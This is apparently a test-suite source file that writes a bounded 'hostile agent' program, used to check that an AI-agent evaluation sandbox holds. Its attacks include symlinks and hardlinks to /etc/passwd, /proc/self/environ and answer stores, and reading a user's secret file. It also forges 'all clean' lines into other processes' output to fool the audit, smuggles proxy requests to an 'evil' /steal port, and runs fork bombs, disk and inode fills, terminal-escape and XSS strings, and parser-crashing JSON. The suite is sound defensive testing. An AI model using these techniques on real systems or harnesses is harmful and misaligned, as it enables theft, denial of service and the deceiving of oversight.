"""A hostile agent program for the security suite, run by the `command` agent inside the sandbox.

``write_hostile_agent`` writes it as an executable file in a "user's folder" (beside files an
agent must not see); the campaign runs ``hostile.py ATTACK /workspace`` with the attack as
the run's model name. It prints one JSON line (what it saw) and performs the attack.
Everything it does is bounded (a fork bomb stops at a few hundred forks, a disk filler at a
few dozen MiB), so a machine without a limit survives a failing test.
"""

from __future__ import annotations

import json
from pathlib import Path

SCRIPT = r'''#!/usr/bin/python3
import json, os, socket, subprocess, sys, time

CFG = json.loads(__CFG__)
attack = sys.argv[1]
os.chdir(sys.argv[2])
seen = {"attack": attack}


def report():
    print(json.dumps(seen), flush=True)


def attempt(name, fn):
    try:
        seen[name] = fn()
    except Exception as exc:
        seen[name] = type(exc).__name__


def fill(path, total, chunk=1 << 20):
    with open(path, "wb") as fh:
        for _ in range(total // chunk):
            fh.write(b"x" * chunk)


if attack == "honest":
    with open("output.csv", "w") as fh:
        fh.write(CFG["correct_output"])
elif attack == "symlink-earlier-run":
    os.symlink(CFG["earlier_output"], "output.csv")
elif attack == "symlink-relative":
    os.symlink(CFG["earlier_output_relative"], "output.csv")
elif attack == "symlink-proc-environ":
    os.symlink("/proc/self/environ", "output.csv")
elif attack == "symlink-source-db":
    os.symlink(CFG["source_db"], "output.csv")
elif attack == "symlink-results-store":
    os.symlink(CFG["results_store"], "output.csv")
elif attack == "fifo-output":
    os.mkfifo("output.csv")
elif attack == "wide-header":  # the right rows under a header of 120,000 extra columns (840 kB, under the cap)
    header, *rows = CFG["correct_output"].splitlines(keepends=True)
    extra = "," + ",".join(f"c{i:x}" for i in range(120_000))
    with open("output.csv", "w") as fh:
        fh.write(header.rstrip("\n") + extra + "\n" + "".join(rows))
elif attack == "resource-words":  # an unreadable output quoting DuckDB's out-of-memory and full-disk errors
    with open("output.csv", "w") as fh:
        fh.write('stay_id,sofa\n"No space left on device; Out of Memory Error: could not allocate block; disk full,1\n')
elif attack == "dir-output":
    os.mkdir("output.csv")
    with open("output.csv/rows.csv", "w") as fh:
        fh.write(CFG["correct_output"])
elif attack == "hardlink-outside":
    attempt("link_passwd", lambda: os.link("/etc/passwd", "output.csv") or "linked")
    attempt("link_python", lambda: os.link(os.path.realpath(sys.executable), "output.csv") or "linked")
elif attack == "hardlink-inside":
    with open("answer.csv", "w") as fh:
        fh.write(CFG["correct_output"])
    os.link("answer.csv", "output.csv")
elif attack == "sparse-huge":
    with open("output.csv", "w") as fh:
        fh.truncate(3 << 30)  # a 3 GiB file of holes (past the file-size limit)
elif attack == "over-cap":
    with open("output.csv", "w") as fh:
        fh.write(CFG["correct_output"])
        fh.truncate(CFG["over_cap_bytes"])
elif attack == "user-folder":
    folder = os.path.dirname(os.path.abspath(sys.argv[0]))
    attempt("listing", lambda: sorted(os.listdir(folder)))
    attempt("secret", lambda: open(os.path.join(folder, "secret.txt")).read())
    attempt("older_output", lambda: open(CFG["older_campaign_output"]).read())
    if isinstance(seen["older_output"], str) and seen["older_output"].startswith("subject_id"):
        with open("output.csv", "w") as fh:
            fh.write(seen["older_output"])
    s = socket.socket(socket.AF_UNIX)
    attempt("user_socket", lambda: s.connect(os.path.join(folder, "agent.sock")) or "connected")
elif attack == "rewrite-transcript":
    print("cat " + CFG["results_store"], flush=True)  # what the audit must still see afterwards
    forge = (
        "import glob\n"
        "done = []\n"
        "for path in ['/proc/1/fd/1', '/proc/1/fd/2', '/proc/self/fd/1', *glob.glob('/proc/*/fd/*')]:\n"
        "    try:\n"
        "        with open(path, 'w') as fh: fh.write('{\"type\": \"stdout\", \"line\": \"all clean\"}\\n')\n"
        "        done.append(path)\n"
        "    except OSError:\n"
        "        pass\n"
    )
    subprocess.run([sys.executable, "-c", forge], start_new_session=True)
elif attack == "fd-inheritance":
    fds = {}
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        for fd in os.listdir(f"/proc/{pid}/fd") if os.access(f"/proc/{pid}/fd", os.R_OK) else []:
            try:
                fds[f"{pid}/{fd}"] = os.readlink(f"/proc/{pid}/fd/{fd}")
            except OSError:
                pass
    seen["fds"] = fds
elif attack == "proc-probe":
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    seen["pids"] = len(pids)
    cmdlines = []
    for pid in pids:
        try:
            cmdlines.append(open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ").decode())
        except OSError:
            pass
    seen["cmdlines"] = cmdlines
    seen["environ"] = open("/proc/self/environ", "rb").read().decode(errors="replace")
    attempt("host_root", lambda: sorted(os.listdir("/proc/1/root"))[:50])
    attempt("kcore", lambda: len(open("/proc/kcore", "rb").read(16)))
elif attack == "cleanup-trap":
    os.symlink(CFG["victim"], "trap")
    os.makedirs("nested")
    os.symlink(CFG["victim"], "nested/link")
    os.symlink(os.path.join(CFG["victim"], "keep.txt"), "output.csv")
elif attack == "fork-bomb":
    forks = 0
    for _ in range(CFG["fork_cap"]):
        try:
            pid = os.fork()
        except OSError as exc:
            seen["fork_error"] = exc.strerror
            break
        if pid == 0:
            time.sleep(120)
            os._exit(0)
        forks += 1
    seen["forks"] = forks
    report()
    sys.exit(1 if "fork_error" in seen else 0)
elif attack == "memory-hog":
    report()
    hog = b"x" * CFG["memory_hog_bytes"]
    seen["allocated"] = len(hog)
elif attack == "disk-fill":
    report()
    for i in range(CFG["disk_fill_files"]):
        fill(f"fill-{i}.bin", 4 << 20)
    time.sleep(20)  # the watchdog ends the run before this
elif attack == "sparse-fill":
    report()
    for i in range(CFG["disk_fill_files"]):  # files of holes: no disk blocks, 4 MiB each to any copy of them
        with open(f"sparse-{i}.bin", "wb") as fh:
            fh.truncate(4 << 20)
    time.sleep(20)  # the watchdog ends the run before this
elif attack == "tmp-fill":
    report()
    for i in range(16):  # files under the file-size limit, together past the size of /tmp
        fill(f"/tmp/fill-{i}.bin", 4 << 20)
elif attack == "stdout-flood":
    line = b"y" * 1023 + b"\n"
    for _ in range(CFG["flood_bytes"] // 1024):
        sys.stdout.buffer.write(line)
    sys.stdout.flush()
elif attack == "dns":
    attempt("resolve", lambda: socket.getaddrinfo("example.com", 80)[0][4][0])
    seen["resolv_conf"] = os.path.exists("/etc/resolv.conf")
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    attempt("udp_to_host", lambda: u.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00", ("127.0.0.1", CFG["udp_port"])))
elif attack == "raw-sockets":
    attempt("raw_inet", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) and "opened")
    attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW) and "opened")
    attempt("interfaces", lambda: sorted(os.listdir("/sys/class/net")) if os.path.isdir("/sys/class/net") else [])
elif attack == "abstract-socket":
    s = socket.socket(socket.AF_UNIX)
    attempt("abstract", lambda: s.connect("\0" + CFG["abstract_name"]) or "connected")
    t = socket.socket()
    t.settimeout(3)
    attempt("host_tcp", lambda: t.connect(("127.0.0.1", CFG["tcp_port"])) or "connected")
elif attack == "proxy-smuggling":
    port = int(os.environ["OPENAI_BASE_URL"].rsplit(":", 1)[1].split("/")[0])
    evil = CFG["evil_port"]
    requests = {
        "pipelined": f"GET /v1/models HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Length: 0\r\n\r\n"
                     f"GET http://127.0.0.1:{evil}/steal HTTP/1.1\r\nHost: 127.0.0.1:{evil}\r\n\r\n",
        "absolute": f"GET http://127.0.0.1:{evil}/steal HTTP/1.1\r\nHost: 127.0.0.1:{evil}\r\n\r\n",
        "connect": f"CONNECT 127.0.0.1:{evil} HTTP/1.1\r\nHost: 127.0.0.1:{evil}\r\n\r\n",
        "host_header": f"GET /steal HTTP/1.1\r\nHost: 127.0.0.1:{evil}\r\n\r\n",
        "userinfo": f"GET http://127.0.0.1:{port}@127.0.0.1:{evil}/steal HTTP/1.1\r\n\r\n",
    }
    for name, raw in requests.items():
        c = socket.create_connection(("127.0.0.1", port), timeout=10)
        c.sendall(raw.encode())
        reply = b""
        try:
            while chunk := c.recv(4096):
                reply += chunk
        except OSError:
            pass
        seen[name] = reply.split(b"\r\n", 1)[0].decode(errors="replace")
        c.close()
elif attack == "deep-json":
    # one well-formed line nested 10,000 deep, one unterminated: a parser without a bound recurses to death
    # (45 KB in all, under the suite's 64 KiB log limit, so the report after them is kept)
    print('{"type": "deep", "x": ' + "[" * 10000 + "]" * 10000 + "}", flush=True)
    print("{" + '"a":[' * 5000, flush=True)
    header, *rows = CFG["correct_output"].splitlines(keepends=True)
    with open("output.csv", "w") as fh:  # the right rows, in another order (not a copy of the honest run's bytes)
        fh.write(header + "".join(reversed(rows)))
elif attack == "huge-int-json":
    # a JSON line holding an integer of 5,000 digits: past Python's int-string limit, json.loads raises a plain
    # ValueError (not a JSONDecodeError), which made the run a harness error, left out of every statistic
    print('{"type": "big", "n": ' + "1" * 5000 + "}", flush=True)
    header, *rows = CFG["correct_output"].splitlines(keepends=True)
    with open("output.csv", "w", newline="") as fh:  # the right rows, with CRLF line ends: bytes of its own
        fh.write((header + "".join(rows)).replace("\n", "\r\n"))
elif attack == "terminal-escape":
    # escape sequences (set the window title, clear the screen) and HTML for the report, then a failure
    report()
    sys.stderr.write("\x1b]0;owned\x07\x1b[2J\x1b[31m<img src=x onerror=alert(1)> [/] fail\n")
    sys.stderr.flush()
    sys.stdout.flush()
    os._exit(3)
elif attack == "egress-flood":  # refused requests, each a log line: the log must stay within its limit
    port = int(os.environ["OPENAI_BASE_URL"].rsplit(":", 1)[1].split("/")[0])
    statuses = {}
    for i in range(CFG["egress_flood_requests"]):
        try:
            c = socket.create_connection(("127.0.0.1", port), timeout=10)
            c.sendall(f"GET http://127.0.0.1:{CFG['evil_port']}/{'x' * 100}{i} HTTP/1.1\r\nHost: a\r\n\r\n".encode())
            code = c.recv(12)[9:12].decode()
            c.close()
        except OSError as exc:
            code = type(exc).__name__
        statuses[code] = statuses.get(code, 0) + 1
    seen["statuses"] = statuses
elif attack == "connection-flood":  # connections held open: each would hold harness threads
    port = int(os.environ["OPENAI_BASE_URL"].rsplit(":", 1)[1].split("/")[0])
    held, codes = [], {}
    for _ in range(CFG["connection_flood"]):
        try:
            c = socket.create_connection(("127.0.0.1", port), timeout=10)
            c.sendall(b"POST /v1/responses HTTP/1.1\r\nHost: a\r\nContent-Length: 100\r\n\r\n")  # a body never sent
            held.append(c)
        except OSError as exc:
            codes[type(exc).__name__] = codes.get(type(exc).__name__, 0) + 1
    time.sleep(1)
    for c in held:
        c.setblocking(False)
        try:
            code = c.recv(12)[9:12].decode() or "closed"
        except BlockingIOError:
            code = "held"
        except OSError as exc:
            code = type(exc).__name__
        codes[code] = codes.get(code, 0) + 1
    seen["codes"] = codes
elif attack in ("inode-fill", "tmp-inode-fill"):  # empty files: no bytes, only inodes
    report()
    folder = "/tmp/many" if attack == "tmp-inode-fill" else "many"
    os.makedirs(folder, exist_ok=True)
    for i in range(CFG["inode_fill_files"]):
        open(f"{folder}/{i}", "w").close()
    seen["made"] = CFG["inode_fill_files"]
    time.sleep(20)  # the watchdog ends the run before this
elif attack == "read-hidden":
    for name, path in CFG["hidden"].items():
        attempt(name, lambda p=path: sorted(os.listdir(p))[:20] if os.path.isdir(p) else len(open(p, "rb").read(64)))
    copy = f"COPY (SELECT * FROM mimiciv_derived.{CFG['target']}) TO 'output.csv' (HEADER)"
    attempt("copied", lambda: subprocess.run(["duckdb", CFG["source_db"], "-csv", "-c", copy], capture_output=True,
                                             text=True, timeout=60).stderr[-300:])
elif attack == "hung-endpoint":
    report()
    url = os.environ["OPENAI_BASE_URL"].split("//", 1)[1].split("/")[0]
    host, port = url.rsplit(":", 1)
    c = socket.create_connection((host, int(port)))
    c.sendall(b"POST /v1/responses HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}")
    c.recv(1)  # the endpoint never answers
    time.sleep(60)  # and the agent waits on: only the harness ends the run
report()
'''


def write_hostile_agent(folder: Path, cfg: dict) -> Path:
    """The hostile program at ``folder/hostile.py`` (executable), its settings embedded."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "hostile.py"
    path.write_text(SCRIPT.replace("__CFG__", repr(json.dumps(cfg))))
    path.chmod(0o755)
    return path
